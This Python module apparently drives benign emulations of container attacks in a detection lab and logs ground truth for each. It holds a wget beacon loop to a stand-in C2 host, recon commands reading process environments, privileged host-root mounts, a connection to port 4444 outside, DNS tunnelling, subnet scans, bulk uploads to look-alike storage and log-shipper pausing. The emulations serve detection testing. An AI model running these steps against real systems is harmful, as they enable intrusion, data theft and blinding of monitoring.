"""Benign emulations of attacks with their ground truth: the form of each attack, text and zeros for its content."""

import threading
from collections.abc import Callable
from dataclasses import asdict
from typing import Any

from data.capture import images
from data.capture.cases import CASES, Case
from data.capture.estate import BROWSERS, NETWORKS, OWN, UNKNOWN, http
from data.capture.lab import TOOLBOX, Lab
from data.capture.life import BY_NAME, Notes
from data.capture.world import WORLD

Emulation = Callable[[], None]
SCRIPT = "#!/bin/sh\n# benign stand-in for a dropped tool: it only waits\nsleep 20\n"
BEACON = (
    'while true; do wget -q -O /dev/null -U "curl/7.58.0" http://cdn-static.example/api/v1/checkin; sleep {gap}; done'
)
RECON = (
    ["id"],
    ["env"],
    ["cat", "/proc/1/environ"],
    ["mount"],
    ["cat", "/proc/self/status"],
    ["ls", "-la", "/run"],
    ["ps"],
    ["cat", "/etc/resolv.conf"],
    ["ip", "route"],
    ["cat", "/proc/net/arp"],
)


class Emulations:
    """The emulations, each a method; `schedule` says when each starts.

    Parameters
    ----------
    lab
        The estate at work.
    truth
        Where the ground truth is written down.
    benign
        Where the clean-up that follows an emulation is written down.
    """

    def __init__(self, lab: Lab, truth: Notes, benign: Notes) -> None:
        self.lab = lab
        self.truth = truth
        self.benign = benign

    def schedule(self, total: float, split: float) -> list[tuple[float, Emulation]]:
        """Return the emulations spread from `split` (a share of `total` stretched seconds) to the end."""
        played: dict[str, Emulation] = {
            "I01": self.unknown_image,
            "E01": self.recon,
            "D04": self.drift,
            "N07": self.tunnel,
            "D01": self.refused,
            "N05": self.borrowed,
            "E02": self.dropped,
            "N11": self.shell,
            "N16": self.scan,
            "N03": self.raw443,
            "N17": self.bulk,
            "I03": self.implanted,
            "D10": self.silenced,
            "C02": self.chain,
            "N02": self.profile,
        }
        step = (0.975 - split) * total / len(CASES)
        return [
            (split * total + step * (index + 0.2), self._told(played[case.scenario], case))
            for index, case in enumerate(CASES)
        ]

    def _told(self, work: Emulation, case: Case) -> Emulation:
        def run() -> None:
            with self.lab.locks[case.workload.rsplit("/", 1)[-1]]:
                start = self.lab.clock.stamp()
                work()
                self.truth.add(start, technique=case.techniques[0], **asdict(case))

        return run

    def _wait(self, stretched: float) -> None:
        threading.Event().wait(stretched / self.lab.clock.factor)

    def _inside(self, container: str, loop: dict[str, Any], stretched: float) -> None:
        self.lab.inside(container, [{"now": True, **loop}], stretched / self.lab.clock.factor)

    def unknown_image(self) -> None:
        """I01: pull from a registry nobody used before and run under a system-like name."""
        reference = f"{UNKNOWN}/ngnix/nginx-alpine:latest"
        docker = self.lab.engine.docker
        docker("pull", "-q", reference)
        script = BEACON.format(gap=f"{150 / self.lab.clock.factor:.2f}")
        self.lab.start(
            "kube-proxy-helper",
            ("shop_app",),
            ("create", "--name", "kube-proxy-helper", "--restart", "always"),
            reference,
            ("sh", "-c", script),
        )
        self._wait(4200)
        docker("rm", "-f", "kube-proxy-helper")

    def recon(self) -> None:
        """E01: look around by exec."""
        for command in RECON:
            self.lab.engine.docker("exec", BY_NAME["api"].container(), *command, check=False)

    def drift(self) -> None:
        """D04: recreate the second replica weaker, then, an hour later, put it right."""
        web = BY_NAME["web"]
        self.lab.down(web.container(2))
        weak = (
            "--cap-add",
            "SYS_ADMIN",
            "--security-opt",
            "seccomp=unconfined",
            "--pid",
            "host",
            "-v",
            "/etc:/host/etc:ro",
            "-e",
            "LD_PRELOAD=/tmp/.cache/lib.so",
        )
        self.lab.up(web, 2, weak, pull=False)
        self._wait(3600)
        start = self.lab.clock.stamp()
        self.lab.down(web.container(2))
        self.lab.up(web, 2, pull=False)
        self.benign.add(start, kind="repair", workload=web.workload, note="replica recreated as it was")

    def tunnel(self) -> None:
        """N07: ask for long random names."""
        loop = {
            "kind": "tunnel",
            "domain": "t.dnsedge.example",
            "resolver": NETWORKS["shop_app"][3],
            "every": 6,
            "jitter": 0.2,
        }
        self._inside(BY_NAME["notify"].container(), loop, 2700)

    def refused(self) -> None:
        """D01: ask for a privileged container with the host's root; the range's engine refuses to start it."""
        docker = self.lab.engine.docker
        docker("pull", "-q", TOOLBOX)
        docker(
            "create",
            "--name",
            "host-tuner",
            "--network",
            "shop_app",
            "--privileged",
            "--pid",
            "host",
            "-v",
            "/:/host",
            TOOLBOX,
            "chroot",
            "/host",
            "true",
        )
        docker("start", "host-tuner", check=False)
        self._wait(120)
        docker("rm", "-f", "host-tuner")

    def borrowed(self) -> None:
        """N05: TLS with a vendor's name to another address, never resolved."""
        loop = http(
            ["https://telemetry.vendor.example/collect"],
            150,
            jitter=0.1,
            address=WORLD["cdn-static.example"],
            old=True,
            send=(300, 340),
            ua="vendor/1",
        )
        self._inside(BY_NAME["worker"].container(), loop, 3000)

    def dropped(self) -> None:
        """E02: copy a script in and run it detached."""
        self._drop(BY_NAME["edge"].container(), "/tmp/.x11.sh")  # noqa: S108 (inside a container)
        self._wait(1800)

    def _drop(self, container: str, target: str) -> None:
        path = self.lab.folder / "dropped.sh"
        path.write_text(SCRIPT)
        self.lab.engine.docker("cp", str(path), f"{container}:{target}")
        self.lab.engine.docker("exec", "-d", container, "sh", target)

    def shell(self) -> None:
        """N11: hold a raw connection from the database to port 4444 outside."""
        loop = {
            "kind": "hold",
            "to": f"{WORLD['updates-sync.example']}:4444",
            "every": 60,
            "span": 3600,
            "beat": 90,
            "lines": [1, 40],
            "text": "lab\n",
        }
        self._inside(BY_NAME["db"].container(), loop, 3660)

    def scan(self) -> None:
        """N16: knock on every address of the subnet and on unused ones outside."""
        hosts = [f"172.28.10.{number}" for number in range(2, 31)]
        hosts += [f"198.51.100.{number}" for number in range(200, 216)]
        loop = {
            "kind": "scan",
            "hosts": hosts,
            "ports": [22, 2375, 4243, 5432, 6379, 8080, 9100, 10250],
            "every": 1,
            "times": 1,
            "timeout": 0.03,
        }
        self._inside(BY_NAME["web"].container(1), loop, 1800)

    def raw443(self) -> None:
        """N03: text on port 443."""
        loop = {
            "kind": "hold",
            "to": "updates-sync.example:443",
            "every": 60,
            "span": 1500,
            "beat": 45,
            "text": "lab line, not TLS\n",
        }
        self._inside(BY_NAME["cache"].container(), loop, 3000)

    def bulk(self) -> None:
        """N17: upload zeros to the look-alike store."""
        loop = {
            "kind": "upload",
            "urls": ["https://backup.s3-storage.example/shop/dump"],
            "send": [3_000_000, 4_000_000],
            "every": 240,
            "times": 4,
        }
        self._inside(BY_NAME["db"].container(), loop, 1800)

    def implanted(self) -> None:
        """I03: the worker's tag gets another digest; the worker is recreated from it and beacons."""
        worker, lab = BY_NAME["worker"], self.lab
        tag = lab.versions["worker"]
        images.push_from_elsewhere(
            5010, f"{worker.project}/{worker.name}", tag, ["python3", "/app/actor.py", "/app/plan.json"], "127.0.0.66"
        )
        lab.engine.docker("pull", "-q", f"{OWN}/shop/worker:{tag}")
        lab.down(worker.container())
        lab.up(worker, pull=False)
        loop = http(
            ["https://cdn-static.example/v2/sync"], 180, jitter=0.2, send=(200, 260), old=True, ua="shop-worker/1.4"
        )
        self._inside(worker.container(), loop, 3000)

    def silenced(self) -> None:
        """D10: pause the log shipper."""
        self.lab.engine.docker("pause", BY_NAME["logship"].container())
        self._wait(3600)
        self.lab.engine.docker("unpause", BY_NAME["logship"].container())

    def chain(self) -> None:
        """C02: drop, borrowed name, upload, one after the other on one workload."""
        api = BY_NAME["api"].container()
        self._drop(api, "/tmp/.cache.sh")  # noqa: S108 (inside a container)
        loop = http(
            ["https://rates.bank.example/feed"],
            120,
            jitter=0.2,
            address=WORLD["cdn-static.example"],
            old=True,
            send=(250, 300),
            ua="feed/2",
        )
        self._inside(api, loop, 1500)
        upload = {
            "kind": "upload",
            "urls": ["https://backup.s3-storage.example/shop/export"],
            "send": [2_000_000, 2_500_000],
            "every": 120,
            "times": 2,
        }
        self._inside(api, upload, 900)

    def profile(self) -> None:
        """N02: fetch the look of a library with a browser's headers, at a beacon's pace."""
        headers = {"Referer": "http://code.jquery.com/", "Cookie": "__cfduid=" + "A" * 172}
        loop = http(
            ["http://cdn-static.example/ajax/libs/jquery-3.3.1.slim.min.js"],
            60,
            jitter=0.37,
            headers=headers,
            ua=BROWSERS.replace("X11; Linux x86_64", "Windows NT 6.3; Trident/7.0"),
        )
        self._inside(BY_NAME["web"].container(2), loop, 2400)
